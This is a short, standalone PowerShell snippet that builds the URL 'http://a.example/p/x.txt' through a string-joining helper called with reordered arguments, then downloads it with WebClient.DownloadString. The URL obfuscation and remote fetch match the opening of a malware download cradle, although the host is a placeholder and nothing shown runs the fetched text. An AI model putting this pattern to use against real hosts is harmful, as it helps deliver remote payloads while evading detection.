function j{param([string]$a,[string]$b='no') return $a+$b}
$wc = New-Object System.Net.WebClient
$wc.DownloadString((j -b 'a.example/p/x.txt' -a 'http://'))
